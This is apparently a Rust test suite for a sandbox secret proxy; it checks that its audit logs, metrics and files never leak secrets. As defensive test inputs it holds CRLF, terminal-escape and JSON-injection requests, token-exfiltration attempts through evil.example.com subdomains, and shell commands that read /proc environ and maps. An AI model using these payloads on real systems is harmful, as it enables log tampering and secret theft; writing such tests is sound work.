//! What is written of a sandbox's doings, and what lies around of its secrets: whole lines, no values, no tokens, whatever it sends.

use std::path::Path;
use std::process::Command;

use http::Request;
use serde_json::{Value, json};
use tollgate::secret::SecretValue;

use super::wire::{API, api_h1, p0_with};
use crate::support::{
    Attack, Frames, Program, Protocol, Tollgate, Upstream, eventually, full, watch,
};

const POLICY: &str = r#"
secretStores:
  keys:
    egressAllowlist: [api.example.com, other.example.com, "*.wild.example.com"]
    secrets: { KEY: { from: { value: $KEY }, allowedHosts: [api.example.com] } }
sandboxes: { sb-test: { secretStores: [keys] } }
"#;
const URL: &str = "https://api.example.com/";

/// The audit's bytes after so many events.
async fn audit(tollgate: &Tollgate, events: usize) -> Vec<u8> {
    tollgate.events(events).await;
    std::fs::read(tollgate.folder().join("audit.jsonl")).unwrap()
}

/// Whether the text holds a character that a terminal acts on or that hides what stands beside it.
fn acts(text: &str) -> bool {
    text.chars().any(|c| {
        (c.is_control() && c != '\n')
            || matches!(c, '\u{2028}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{200e}' | '\u{200f}' | '\u{feff}')
    })
}

#[tokio::test]
async fn LOG_001_characters_that_terminals_act_on() {
    let attack = Attack::p0().await;
    for text in [
        r"GET /a%0d%0ab HTTP/1.1\r\nUser-Agent: \x1b]0;x\x07\r\nHost: api.allowed.test\r\n\r\n",
        r"GET /a%0d%0ab HTTP/1.1\r\nHost: api.allowed.test\r\n\r\n",
        r"GET /\xe2\x80\xaeb HTTP/1.1\r\nHost: api.allowed.test\r\n\r\n",
        r"GET /\xc2\x85b HTTP/1.1\r\nHost: api.allowed.test\r\n\r\n",
        r"G\xe2\x80\xa8T / HTTP/1.1\r\nHost: api.allowed.test\r\n\r\n",
        r"GET / HTTP/1.1\r\nHost: api.\xe2\x80\xaeallowed.test\r\n\r\n",
    ] {
        attack.tunnel(API, text).await;
        attack.explicit(&text.replace("GET /", "GET http://open.allowed.test/")).await;
    }
    attack.explicit(r"CONNECT a\nb:443 HTTP/1.1\r\nHost: a\r\n\r\n").await;
    attack.explicit("CONNECT \\xe2\\x80\\xaea.test:443 HTTP/1.1\\r\\nHost: a\\r\\n\\r\\n").await;
    for path in ["/\u{202e}b", "/\u{2028}b", "/\u{85}b", "/\u{9b}2Jb"] {
        let frames = Frames::new().get(
            1,
            "api.allowed.test",
            path,
            &[("user-agent", "\u{202e}x".as_bytes())],
        );
        attack.h2("api.allowed.test", &frames).await;
    }
    let bytes = audit(&attack.tollgate, 20).await;
    let text = String::from_utf8(bytes).unwrap();
    assert!(!acts(&text), "{}", text.escape_debug());
    attack.finish().await;
}

#[tokio::test]
async fn LOG_002_json_in_a_path() {
    let attack = Attack::p0().await;
    let path = r#"/","verdict":"allow","x":""#;
    for text in [
        format!(r"DELETE {path} HTTP/1.1\r\nHost: open.allowed.test\r\n\r\n"),
        format!(r"GET {path} HTTP/1.1\r\nHost: open.allowed.test\r\nX: {{{{TOK_A}}}}\r\n\r\n"),
    ] {
        attack.tunnel("open.allowed.test:443", &text).await;
    }
    let schema = tollgate::audit::schema();
    let events = attack.finish().await;
    let told = events.iter().filter(|event| event["path"] == path).count();
    assert!(told == 2 || events.iter().any(|event| event["status"] == 400), "{events:#?}");
    for event in &events {
        for key in event.as_object().unwrap().keys() {
            assert!(schema["properties"].get(key).is_some(), "{key} in {event:#}");
        }
    }
}

#[tokio::test]
async fn LOG_003_a_value_across_the_bound_of_a_field() {
    let upstream = Upstream::https("api.example.com").answering(200, &[], "").await;
    let tollgate = Tollgate::with(POLICY, &[&upstream]).await;
    let sandbox = tollgate.sandbox("sb-test");
    let value = tollgate.value("KEY");
    assert_eq!(sandbox.get_with(URL, "x-key", sandbox.token("KEY")).await.status, 200);
    const BOUND: usize = tollgate::audit::Event::TEXT;
    for before in BOUND - value.len() - 3..BOUND {
        let path = format!("{}{value}{}", "a".repeat(before), "b".repeat(20_000));
        sandbox.get(&format!("{URL}{path}")).await;
    }
    let long = format!("CONNECT {}.test:443 HTTP/1.1\r\nHost: x\r\n\r\n", "h".repeat(50_000));
    assert!(sandbox.raw(long.as_bytes()).await.starts_with("HTTP/1.1 4"));
    let method = format!("{}{value} / HTTP/1.1\r\nHost: x\r\n\r\n", "M".repeat(BOUND - 5));
    assert!(sandbox.raw(method.as_bytes()).await.starts_with("HTTP/1.1 4"));
    for event in tollgate.finish().await {
        assert!(event.to_string().len() < 3 * BOUND, "{event:#}");
        let path = event["path"].as_str().unwrap_or_default();
        assert!(path.len() <= BOUND && !path.contains(&value[..6]), "{path}");
    }
}

#[tokio::test]
async fn LOG_004_every_level_of_the_log_of_every_library() {
    let upstream = Upstream::https("api.example.com").await;
    let program = Program::serve(POLICY, &upstream, &[("TOLLGATE_LOG", "trace")]).await;
    let token = program.token().await;
    for protocol in [Protocol::H1, Protocol::H2] {
        let request = Request::get(URL).header("authorization", format!("Bearer {token}"));
        let answer = program.sandbox.send_over(protocol, request.body(full("")).unwrap()).await;
        // It is echoed, and so the answer was searched.
        assert!(answer.text().contains(&token), "{answer:?}");
    }
    let log = std::fs::read(program.folder().join("log")).unwrap();
    for line in [" TRACE ", " DEBUG "] {
        assert!(memchr::memmem::find(&log, line.as_bytes()).is_some(), "no{line}line");
    }
    assert_eq!(watch::found_in(&log, program.value.as_bytes()), None);
    program.stop().await;
}

#[tokio::test]
async fn LOG_005_a_token_is_written_as_the_name_of_its_secret() {
    let upstream = Upstream::https("api.example.com").also("x.wild.example.com").await;
    let program = Program::serve(POLICY, &upstream, &[("TOLLGATE_LOG", "tollgate=trace")]).await;
    let token = program.token().await;
    let sandbox = &program.sandbox;
    sandbox.get_with(URL, "authorization", &token).await;
    sandbox.get(&format!("{URL}{token}/x")).await;
    sandbox.get(&format!("https://{token}.wild.example.com/")).await;
    sandbox.get(&format!("https://{token}.evil.example.com/")).await;
    sandbox.send(Request::builder().method(&*token).uri(URL).body(full("")).unwrap()).await;
    let foreign = format!("osb_sealed_{}", "0".repeat(32));
    sandbox.get(&format!("{URL}{foreign}")).await;
    let told = eventually("eleven events", || {
        let text = std::fs::read_to_string(program.folder().join("audit.jsonl")).unwrap();
        (text.matches("\"protocol\":\"http/1.1").count() >= 11).then_some(text)
    })
    .await;
    let log = std::fs::read_to_string(program.folder().join("log")).unwrap();
    assert!(!told.contains(&token) && !told.contains(&foreign), "{told}");
    assert!(!log.contains(&token), "{log}");
    assert!(
        told.contains("\"path\":\"/tok:KEY/x\"") && told.contains("\"path\":\"/tok:?\""),
        "{told}"
    );
    assert!(told.contains("\"host\":\"tok:KEY.evil.example.com\""), "{told}");
    assert!(told.contains("\"method\":\"tok:KEY\""), "{told}");
    program.stop().await;
}

#[tokio::test]
async fn LOG_006_a_real_value_anywhere_in_a_request() {
    let upstream = Upstream::https("api.example.com").also("other.example.com").await;
    let tollgate = Tollgate::with(POLICY, &[&upstream]).await;
    let sandbox = tollgate.sandbox("sb-test");
    let value = tollgate.value("KEY");
    sandbox.get_with(URL, "x-key", sandbox.token("KEY")).await;
    let guesses = [
        "https://other.example.com/?k={}",
        "https://other.example.com/{}",
        "https://api.example.com/{}",
        "https://{}.wild.example.com/",
        "https://{}.evil.example.com/",
    ];
    for url in guesses {
        let answer = sandbox.get(&url.replace("{}", &value)).await;
        assert_eq!(answer.status == 200, url.starts_with("https://api."), "{answer:?}");
    }
    for method in [value.clone(), "DEBUG".to_owned(), format!("{value}{}", "X".repeat(64))] {
        let request = Request::builder().method(&*method).uri(format!("{URL}{value}"));
        sandbox.send(request.body(full("")).unwrap()).await;
    }
    let agent = Request::get("https://other.example.com/").header("user-agent", &value);
    assert_eq!(sandbox.send(agent.body(full("")).unwrap()).await.reason(), "secret_exposed");
    let events = tollgate.finish().await;
    let alerts = events.iter().filter(|event| event["event"] == "alert").count();
    assert_eq!(alerts, 4, "{events:#?}");
}

/// Values live in types that print a constant; a type that derives `Debug` holds none. What a library says when it panics is not repeated.
#[test]
fn LOG_007_nothing_that_holds_a_value_can_be_printed() {
    let value = SecretValue::new(b"hunter2-hunter2".to_vec()).unwrap();
    assert_eq!(format!("{value:?}"), "SecretValue(…)");
    let source = Path::new(env!("CARGO_MANIFEST_DIR")).join("src");
    let mut looked_at = 0;
    for file in rust_files(&source) {
        let text = std::fs::read_to_string(&file).unwrap();
        for derived in text.split("#[derive(").skip(1) {
            let (traits, item) = derived.split_once(")]").unwrap();
            let item = item.split("\n}\n").next().unwrap();
            looked_at += 1;
            let holds = item.contains("Zeroizing<") && item.contains("struct ");
            assert!(!(traits.contains("Debug") && holds), "{}: {item}", file.display());
        }
    }
    assert!(looked_at > 100, "{looked_at}");
    let telemetry = std::fs::read_to_string(source.join("telemetry.rs")).unwrap();
    assert!(telemetry.contains("set_hook(Box::new(|panic| report(panic.location())))"));
}

fn rust_files(folder: &Path) -> Vec<std::path::PathBuf> {
    let entries = std::fs::read_dir(folder).unwrap().map(|entry| entry.unwrap().path());
    let (folders, files): (Vec<_>, Vec<_>) = entries.partition(|path| path.is_dir());
    let mut all: Vec<_> =
        files.into_iter().filter(|path| path.extension() == Some("rs".as_ref())).collect();
    folders.iter().for_each(|folder| all.extend(rust_files(folder)));
    all
}

/// Runs without any capability, as programs of people do; root's may look everywhere.
fn bare() -> Command {
    let mut bare = Command::new("setpriv");
    bare.args(["--bounding-set=-all", "--inh-caps=-all"]);
    bare
}

#[test]
fn LOG_009_LOG_010_no_core_and_no_look_into_its_memory() {
    if !bare().arg("true").status().is_ok_and(|status| status.success()) {
        return;
    }
    const LOOK: &str =
        "for file in environ maps; do head -c1 /proc/$PPID/$file && echo seen; done; true";
    let look = |command: &mut Command| {
        let out = command.args(["sh", "-c", LOOK]).output().unwrap();
        String::from_utf8_lossy(&out.stdout).matches("seen").count()
    };
    // The same look succeeds at a parent that did nothing about itself.
    let control = format!("sh -c '{LOOK}'; true");
    let out = bare().args(["sh", "-c", &control]).output().unwrap();
    assert_eq!(String::from_utf8_lossy(&out.stdout).matches("seen").count(), 2);
    let folder = tempfile::tempdir().unwrap();
    std::fs::create_dir(folder.path().join("policies")).unwrap();
    let policy = POLICY.replace("value: $KEY", "env: SOME_KEY");
    std::fs::write(folder.path().join("policies/policy.yaml"), policy).unwrap();
    let mut run = bare();
    run.args([env!("CARGO_BIN_EXE_tollgate"), "run", "--"]).current_dir(folder.path());
    assert_eq!(look(&mut run), 0);
}

/// Our own copy. Those of libraries on their way through a connection are theirs (README).
#[test]
fn LOG_011_a_value_that_is_dropped_is_wiped() {
    use std::os::unix::fs::FileExt as _;
    let text = "a-value-to-be-wiped-".repeat(50);
    let value = SecretValue::new(text.clone().into_bytes()).unwrap();
    let at = value.expose().as_ptr() as u64;
    let memory = std::fs::File::open("/proc/self/mem").unwrap();
    let read = || {
        let mut bytes = vec![0; text.len()];
        memory.read_exact_at(&mut bytes, at).unwrap();
        bytes
    };
    assert_eq!(read(), text.as_bytes());
    drop(value);
    let after = read();
    assert!(memchr::memmem::find(&after, b"a-value-to-be-wiped").is_none());
}

#[tokio::test]
async fn LOG_012_no_file_holds_a_value() {
    let upstream = Upstream::https("api.example.com").await;
    let value = crate::support::fresh_value("file");
    let policy = POLICY.replace("{ value: $KEY }", "{ file: key.txt }");
    let tollgate = Tollgate::describe(&policy, &[&upstream]).file("key.txt", &value).start().await;
    tollgate.watch(&value, &["api.example.com"]);
    let sandbox = tollgate.sandbox("sb-test");
    assert_eq!(sandbox.get_with(URL, "x-key", sandbox.token("KEY")).await.status, 200);
    tollgate.events(1).await;
    let mut looked_at = 0;
    for file in files(tollgate.folder()).iter().filter(|file| !file.ends_with("policies/key.txt")) {
        let bytes = std::fs::read(file).unwrap();
        assert_eq!(watch::found_in(&bytes, value.as_bytes()), None, "{}", file.display());
        let token = sandbox.token("KEY").as_bytes();
        assert!(memchr::memmem::find(&bytes, token).is_none(), "{}", file.display());
        looked_at += 1;
    }
    assert!(looked_at >= 4);
    tollgate.finish().await;
}

fn files(folder: &Path) -> Vec<std::path::PathBuf> {
    let entries = std::fs::read_dir(folder).unwrap().map(|entry| entry.unwrap().path());
    let (folders, mut files): (Vec<_>, Vec<_>) = entries.partition(|path| path.is_dir());
    folders.iter().for_each(|folder| files.extend(self::files(folder)));
    files
}

#[tokio::test]
async fn LOG_013_metrics_have_no_label_that_a_sandbox_chooses() {
    let upstream = Upstream::https("api.example.com").also("x.wild.example.com").await;
    let program = Program::serve(POLICY, &upstream, &[]).await;
    let token = program.token().await;
    program.sandbox.get_with(&format!("{URL}chosen-path?chosen-query"), "x-key", &token).await;
    program.sandbox.get("https://x.wild.example.com/chosen-path").await;
    program.sandbox.get("https://chosen-host.example.net/").await;
    let metrics = program.operator("/metrics").await;
    assert!(metrics.contains("tollgate_requests_total"), "{metrics}");
    for text in ["chosen", "example", "sb-test", "KEY", token.as_str(), program.value.as_str()] {
        assert!(!metrics.contains(text), "{text}: {metrics}");
    }
    program.stop().await;
}

#[tokio::test]
async fn LOG_015_a_program_that_fetches_one_secret_gets_no_other() {
    const TWO: &str = r#"
secretStores:
  keys:
    egressAllowlist: [api.example.com]
    secrets:
      KEY: { from: { command: [sh, -c, "env > child-env; ls -l /proc/self/fd > child-fds; cat /proc/$$/cmdline > child-argv; cat key.txt"] }, allowedHosts: [api.example.com] }
      OTHER: { from: { env: SOURCE_OF_OTHER }, allowedHosts: [api.example.com] }
sandboxes: { sb-test: { secretStores: [keys] } }
"#;
    let upstream = Upstream::https("api.example.com").await;
    let other = crate::support::fresh_value("other");
    let variables = [
        ("SOURCE_OF_OTHER", other.as_str()),
        ("TOLLGATE_SEAL_KEY", "0000"),
        ("WANTED", "by the program"),
    ];
    let program = Program::serve(TWO, &upstream, &variables).await;
    std::fs::write(program.folder().join("key.txt"), &program.value).unwrap();
    let token = program.token().await;
    assert_eq!(program.sandbox.get_with(URL, "x-key", &token).await.status, 200);
    let read = |file| std::fs::read_to_string(program.folder().join(file)).unwrap();
    let (environment, argv) = (read("child-env"), read("child-argv"));
    assert!(environment.contains("WANTED=by the program"), "{environment}");
    for text in [environment.as_str(), argv.as_str()] {
        assert!(!text.contains(&other) && !text.contains(&program.value), "{text}");
    }
    assert!(!environment.contains("TOLLGATE_"), "{environment}");
    let fds = read("child-fds");
    assert!(!fds.contains("socket:") && !fds.contains("eventpoll"), "{fds}");
    program.stop().await;
}

// not yet: LOG-017 nothing in the design chains the lines of the audit; whoever can edit the file can be kept from it by sending it elsewhere

#[tokio::test]
async fn LOG_019_a_full_disk_stops_nothing_and_is_counted() {
    let upstream = Upstream::https("api.example.com").answering(200, &[], "served").await;
    let config = json!({ "audit": { "file": "/dev/full" } });
    let mut tollgate = Tollgate::describe(POLICY, &[&upstream]).config(config).start().await;
    tollgate.expect_error("the audit cannot be written");
    let sandbox = tollgate.sandbox("sb-test");
    for _ in 0..20 {
        assert_eq!(sandbox.get(URL).await.text(), "served");
    }
    let lost = tollgate.server().proxy().audit.lost();
    eventually("the loss is counted", || (lost.get() >= 40).then_some(())).await;
    // Where the support code looks.
    std::fs::write(tollgate.folder().join("audit.jsonl"), "").unwrap();
    tollgate.finish().await;
}

#[tokio::test]
async fn LOG_020_ids_that_a_client_claims() {
    let attack = p0_with(api_h1().await).await;
    let fields = r#"X-Request-Id: "},{\"a\":\"b\r\nTraceparent: 00-"x\r\nDate: Thu, 01 Jan 1970 00:00:00 GMT"#;
    let text = format!(r"GET / HTTP/1.1\r\nHost: api.allowed.test\r\n{fields}\r\n\r\n");
    assert_eq!(attack.tunnel(API, &text).await.status, Some(200));
    let ids: Vec<String> = attack
        .finish()
        .await
        .iter()
        .map(|event: &Value| {
            assert!(event["time"].as_str().unwrap().starts_with("20"), "{event:#}");
            event["requestID"].as_str().unwrap().to_owned()
        })
        .collect();
    assert!(ids.iter().all(|id| id.len() == 32 && id.bytes().all(|b| b.is_ascii_hexdigit())));
}
